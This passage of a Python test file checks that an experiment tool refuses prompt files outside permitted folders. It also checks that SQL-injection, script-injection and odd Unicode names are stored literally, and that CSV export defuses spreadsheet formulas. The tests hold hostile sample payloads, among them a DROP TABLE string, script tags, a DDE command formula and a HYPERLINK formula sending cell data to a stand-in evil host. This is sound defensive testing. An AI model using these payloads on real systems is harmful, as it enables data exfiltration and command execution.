    (shared / "p.txt").write_text("A prompt from the shared folder\nAnother one\n")
    folder = tmp_path / "experiments"
    folder.mkdir()
    path = folder / "exp.yaml"
    path.write_text(dump(with_prompts_file("../shared-prompts/p.txt", name="from_shared")))
    before = snapshot(db)

    def refused(*extra: str) -> str:
        assert main(["run", str(path), "--db", str(db), "--device", "cpu", *extra]) == 2
        error = capsys.readouterr().err.strip()
        assert error.startswith("error: "), error
        assert snapshot(db) == before
        return error.removeprefix("error: ")

    assert_one_sentence(refused(), "prompts_file", "points outside", "--allow-path")
    assert_one_sentence(refused("--allow-path", str(tmp_path / "nowhere")), "--allow-path", "does not exist")
    # Allowing another folder does not allow every folder.
    assert_one_sentence(refused("--allow-path", str(folder)), "points outside")

    kept = kept_rows(db)
    assert main(["run", str(path), "--db", str(db), "--device", "cpu", "--allow-path", str(shared)]) == 0
    capsys.readouterr()
    with closing(sqlite3.connect(db)) as conn:
        prompts = conn.execute(
            "SELECT p.text FROM prompts p JOIN experiments e ON e.id = p.experiment_id "
            "WHERE e.name = 'from_shared' ORDER BY p.position"
        ).fetchall()
    assert prompts == [("A prompt from the shared folder",), ("Another one",)]
    assert kept_rows(db) == kept


# -- inputs that look hostile but are valid: stored literally, nothing else touched ----------------


def test_odd_but_valid_inputs_are_stored_literally(golden: Path, tmp_path: Path) -> None:
    db = copy_store(golden, tmp_path / "odd.db")
    kept = kept_rows(db)
    name = "x'); DROP TABLE experiments;-- \" OR 1=1 --"
    html = "<img src=x onerror=alert(1)><script>alert(2)</script>"
    unicode_name = "\u202eevil\u202c 👩\u200d🔬 שלום"
    data = experiment(
        name=name,
        description=unicode_name,
        prompts=["Once upon a time " * 300, "Tom went"],  # a 5,100-character prompt
        generation={"max_new_tokens": 2, "do_sample": True, "temperature": 1.0, "seed": 10**30},
        variants=[{"name": html}, {"name": unicode_name, "prefix": "A sad story. "}],
    )
    path = tmp_path / "odd.yaml"
    path.write_text(dump(data), encoding="utf-8")
    store = Store(str(db))
    try:
        result = run_experiment_file(store, path, RunOptions(device="cpu"))
        assert result.status == "done"
        with store.session() as session:
            stored = get_experiment(session, name)
            assert [v.name for v in stored.variants] == [html, unicode_name]
            assert stored.prompts[0].text == data["prompts"][0]
    finally:
        store.close()
    assert kept_rows(db) == kept


# -- CSV export: no cell a spreadsheet would run as a formula -------------------------------------

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
)


def test_csv_export_neutralises_formulas(golden: Path, tmp_path: Path) -> None:
    db = copy_store(golden, tmp_path / "csv.db")
    store = Store(str(db))
    try:
        variants = [{"name": f} for f in FORMULAS[:5]]
        spec = parse_experiment(
            experiment(name=FORMULAS[0], prompts=list(FORMULAS), variants=variants), Where("csv test")
        )
        with store.session() as session:
            import_experiment(session, spec, "csv test", {})
        with store.session() as session:
            stored = get_experiment(session, FORMULAS[0])
            run = runs.start_run(
                session, stored, total=35, done=0, batch_size=8, device="cpu", dtype="float32", owner="test"
            )
            rows = [
                repo.NewGeneration(v.id, p.id, 0, FORMULAS[(i + j) % len(FORMULAS)], 3, 0.01, 0)
                for i, v in enumerate(stored.variants)
                for j, p in enumerate(stored.prompts)
            ]
            ids = repo.record_batch(session, stored.id, run.id, rows)
            repo.set_generation_metrics(
                session, [(g, "=evil_score", -1.5 - k) for k, g in enumerate(ids)] + [(ids[0], "-other", 2.0)]
            )
        text = export_csv(store, FORMULAS[0])
    finally:
        store.close()
    table = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in table for cell in row]
    negative_numbers = 0
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
            # Only numbers may start so (a negative score): they must read as numbers.
            value = float(cell)
            assert math.isfinite(value), cell
            negative_numbers += 1
    assert negative_numbers >= len(ids), "negative scores must stay numbers"
    for formula in FORMULAS:
        assert "'" + formula in cells, f"{formula!r} is not exported as text"
    assert table[0][:2] == ["experiment", "variant"] and "'=evil_score" in table[0] and "'-other" in table[0]


# -- every row of hostile-inputs.md is tested -------------------------------------------------------

# Each case of ../shared/security/hostile-inputs.md and the test ids here that cover it.
TABLE = {
    "vector_file_etc_passwd": ["vector_file_etc_passwd", "vector_file_etc_passwd_absolute"],
    "vector_file_random_bytes": ["vector_file_random_bytes"],
    "vector_file_png": ["vector_file_png"],
    "vector_file_truncated": ["vector_file_truncated"],
    "vector_file_huge_declared_shape": ["vector_file_huge_declared_shape"],
    "vector_file_header_len_2e62": ["vector_file_header_len_2e62"],
    "vector_file_3d_tensor": ["vector_file_3d_tensor", "test_cli_subprocess_refuses_a_3d_vector_file"],
    "vector_file_meta_layers_int": ["vector_file_meta_layers_int"],
    "vector_file_meta_seconds_text": ["vector_file_meta_seconds_text"],
    "vector_file_nan_sampled": ["vector_file_nan_values"],  # refused when read, whatever the decoding
    "vector_file_nan_greedy": ["vector_file_nan_values"],
    "vector_file_wrong_hidden": ["vector_file_wrong_hidden_size"],
    "upload_vector_truncated": ["upload_vector_truncated"],
    "upload_vector_3d_tensor": ["upload_vector_3d_tensor"],
    "upload_vector_meta_layers_int": ["upload_vector_meta_layers_int"],
    "upload_vector_nan": ["upload_vector_nan_values"],
    "upload_vector_huge_declared_shape": ["upload_vector_huge_declared_shape"],
    "prompts_file_etc_passwd": ["prompts_file_etc_passwd"],
    "prompts_file_outside_folder_cli": [
        "prompts_file_outside_folder_cli",
        "test_cli_reads_other_folders_only_with_allow_path",
    ],
    "prompts_file_absolute_dashboard_upload": ["prompts_file_absolute_dashboard_upload"],
    "prompts_file_relative_dashboard_upload": ["prompts_file_relative_dashboard_upload"],
    "prompts_50MB_file": ["prompts_file_over_byte_limit", "prompts_100k"],
    "prompts_100k": ["prompts_100k"],
    "prompt_100k_chars": ["prompt_100k_chars"],
    "prompt_5k_chars": ["test_odd_but_valid_inputs_are_stored_literally"],
    "unicode_rtl_nul_names": ["experiment_name_nul", "test_odd_but_valid_inputs_are_stored_literally"],
    "name_sql_metachars": ["test_odd_but_valid_inputs_are_stored_literally"],
    "name_html": ["test_odd_but_valid_inputs_are_stored_literally"],
    "yaml_python_tag": ["yaml_python_tag", "yaml_python_tag_upload"],
    "yaml_python_tag_nested": ["yaml_python_tag_nested"],
    "yaml_truncated": ["yaml_truncated"],
    "yaml_bomb_in_chat_template": ["yaml_bomb_in_chat_template", "test_yaml_bomb_through_the_cli_exits_2"],
    "yaml_bomb_in_vector_method": ["yaml_bomb_in_vectors_method"],
    "yaml_bomb_in_prompts": ["yaml_bomb_in_prompts"],
    "yaml_bomb_dashboard_upload": ["yaml_bomb_in_dashboard_upload"],
    "coefficient_1e308_sampled": ["coefficient_1e308"],  # refused when parsed, whatever the decoding
    "coefficient_1e308_greedy": ["coefficient_1e308"],
    "coefficient_1e30_greedy": ["coefficient_1e30"],
    "temperature_1e-300": ["temperature_1e-300"],
    "max_new_tokens 10⁹": ["max_new_tokens_1e9"],
    "batch size −3": ["batch_size_minus_3"],
    "batch size 0": ["batch_size_0"],
    "seed 10³⁰": ["test_odd_but_valid_inputs_are_stored_literally"],
    "add_nan_vector_variant_to_stored_mood": ["upload_vector_nan_values", "add_nan_variant_to_stored"],
    "add_1e308_variant_to_stored_mood": ["add_1e308_variant_to_stored"],
}


def test_every_case_of_the_table_is_tested() -> None:
    tests = {name for name, value in globals().items() if name.startswith("test_") and callable(value)}
    ids = {c.id for c in CASES} | {f"yaml_bomb_in_{w.replace('.', '_')}" for w in BOMBS} | tests
    unknown = sorted({i for covering in TABLE.values() for i in covering} - ids)
    assert not unknown, f"TABLE names tests that do not exist: {unknown}"
    table = ROOT.parent / "shared" / "security" / "hostile-inputs.md"
    if table.is_file():
        lines = table.read_text(encoding="utf-8").splitlines()
        rows = [line.split("|")[1].strip() for line in lines if line.startswith("|")]
        cases = {row.split(" (")[0] for row in rows if row and row not in ("case", "---")}
        assert not sorted(cases - set(TABLE)), f"hostile-inputs.md cases without a test: {sorted(cases - set(TABLE))}"
